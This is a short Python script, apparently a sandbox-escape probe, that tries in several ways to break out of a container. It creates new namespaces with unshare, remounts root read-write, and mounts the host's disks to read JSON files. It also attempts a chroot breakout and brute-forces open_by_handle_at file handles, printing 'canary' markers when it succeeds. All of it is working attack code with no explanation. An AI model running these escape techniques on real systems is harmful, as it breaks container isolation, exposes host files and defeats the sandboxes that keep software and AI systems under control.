# Makes namespaces of its own and mounts the machine's disk, or leaves the root folder as root may.
# base: right
# needs: sandbox
# says: tried
# %% square-write
import ctypes
import os
import subprocess

SCRIPT = """
mount -t proc proc /proc; mount -o remount,rw /; mount --bind /proc/1/root /tmp; ls /tmp@course@ && cat /tmp@course@/*.json
for disk in /dev/sd* /dev/vd* /dev/nvme*; do mkdir -p /tmp/disk; mount $disk /tmp/disk; done; cat /tmp/disk@course@/*.json
"""
for flags in ("-Urm", "-Urmpf", "-m", "-Urmn"):
    print(subprocess.run(["unshare", flags, "sh", "-c", SCRIPT], capture_output=True, timeout=5))
print(subprocess.run(["sh", "-c", SCRIPT], capture_output=True, timeout=5))
libc = ctypes.CDLL(None, use_errno=True)
deep = os.open("/", os.O_RDONLY)
for folder in ("/tmp", "."):
    if libc.chroot(folder.encode()) == 0:
        os.fchdir(deep)
        os.chdir("../" * 20)
        print("canary-chroot", os.listdir("."))
for kind in range(1, 7):  # open_by_handle_at reaches files past every mount, for who may
    handle = (ctypes.c_int * 4)(8, kind, 2, 0)
    found = libc.open_by_handle_at(deep, handle, 0)
    if found >= 0:
        print("canary-handle", os.listdir(found))
print("tried")
